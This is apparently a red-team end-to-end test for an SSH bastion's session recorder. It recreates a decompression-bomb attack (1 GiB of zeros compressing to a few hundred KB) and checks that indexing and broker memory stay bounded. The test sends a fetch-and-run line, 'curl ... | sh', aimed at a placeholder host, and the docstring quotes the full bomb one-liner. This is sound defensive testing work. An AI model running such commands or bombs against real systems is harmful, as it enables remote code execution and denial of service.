"""Red team, invariants 5 and 6: a session that sends 1 GiB of zeros leaves a 400 KB recording that every
reader decompresses in a few calls of hundreds of megabytes each (a decompression bomb).

The attack, with a valid grant: ``{ printf 'curl ... | sh\\n'; head -c 1G /dev/zero; } | ssh HOST 'bash'``.
Input without a terminal is recorded in full (invariant 5), one zstd frame per flush; zeros compress about
2,600 to 1, and the reader (``castlog._Source``) gives each 256 KiB of compressed file to zstd with no bound
on what comes out. Seen on a running stack:

* the index process died at once over its 1 GiB memory budget: the session is marked "index incomplete",
  but nothing in it is searchable, the script fed before the zeros included;
* a reviewer's ``replay`` or ``export`` made the broker decompress and parse about 500 MB at a time on its
  event loop (which runs the enforcement clock): the loop stalled for 3.5 s, the broker grew to 2.2 GB;
* ``jit-ssh export`` then collected the whole asciicast (six characters per zero) in the reviewer's CLI,
  which grew to 19.6 GB before the kernel's OOM killer stopped it.

Properties: a recording the broker wrote is indexed whatever its compression ratio, and streaming it to a
reviewer holds bounded memory in the broker. Fix: bounded decompression (``ZstdDecompressor().stream_reader``
and ``read(n)``), the export stream read off the event loop, the CLI's export written to its file as it
comes (tests/unit/broker/test_redteam_reader.py checks the reader alone).
"""

from __future__ import annotations

import json
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from jit_ssh.cli.bastion.stack import LocalStack

from tests.e2e.stack_fixture import ended_session, granted, grep_ids, indexed, just_before, ssh_argv, started_stack

pytestmark = pytest.mark.e2e

_MARKER = "redteam-bomb-marker"
_ZEROS = 1024 * 1024 * 1024


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
    with started_stack(tmp_path_factory.mktemp("bomb") / "site") as st:
        yield st


@pytest.fixture(scope="module")
def bomb(stack: LocalStack) -> str:
    """The session: a command line, then 1 GiB of zeros, on the input of ``cat`` (recorded in full)."""
    request_id = granted(stack)
    since = just_before()
    ssh = shlex.join([*ssh_argv(stack, "alice", request_id), "cat > /dev/null"])
    line = f"curl https://{_MARKER}.invalid/x | sh"
    done = subprocess.run(
        ["bash", "-c", f"{{ printf '%s\\n' {shlex.quote(line)}; head -c {_ZEROS} /dev/zero; }} | {ssh}"],
        capture_output=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    row = ended_session(stack, since=since, timeout=120)
    assert row["bytes_in"] > _ZEROS
    assert row["recording_size"] < _ZEROS // 1000  # the bomb: a few hundred KB on disk
    return str(row["id"])


def _high_water(pid: int) -> int:
    """The broker's peak resident memory so far, in bytes (VmHWM)."""
    for line in Path(f"/proc/{pid}/status").read_text(encoding="ascii").splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM in /proc")


def test_a_highly_compressible_recording_is_indexed(stack: LocalStack, bomb: str) -> None:
    row = indexed(stack, bomb, timeout=180)
    problems = json.loads(row["index_json"])["problems"]
    assert problems == [], problems  # today: "indexing stopped over its budget (memory)"
    assert bomb in grep_ids(stack, _MARKER)


def test_streaming_a_highly_compressible_recording_holds_bounded_memory(stack: LocalStack, bomb: str) -> None:
    indexed(stack, bomb, timeout=180)  # the index process is separate; its memory is not the broker's
    assert stack.broker is not None
    before = _high_water(stack.broker.pid)
    # A reviewer's export stream, read by the real OpenSSH client (the control face); a few lines are enough:
    # the broker reads (and decompresses) the recording before it sends the first.
    argv = [
        "ssh", "-F", "none", "-o", f"UserKnownHostsFile={stack.known_hosts}", "-o", "GlobalKnownHostsFile=/dev/null",
        "-o", "StrictHostKeyChecking=yes", "-o", "BatchMode=yes",
        "-o", "IdentitiesOnly=yes", "-o", "IdentityAgent=none", "-i", str(stack.identity("bob")),
        "-p", str(stack.port), "bob@127.0.0.1", "export " + json.dumps({"id": bomb, "purpose": "export"}),
    ]  # fmt: skip
    reader = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        assert reader.stdout is not None
        lines = [reader.stdout.readline() for _ in range(4)]
        assert json.loads(lines[0])["version"] == 2, lines[0]
    finally:
        reader.kill()
        reader.communicate()
    grown = _high_water(stack.broker.pid) - before
    assert grown < 256 * 1024 * 1024, f"the broker grew by {grown / 2**20:.0f} MiB to stream a {bomb} export"
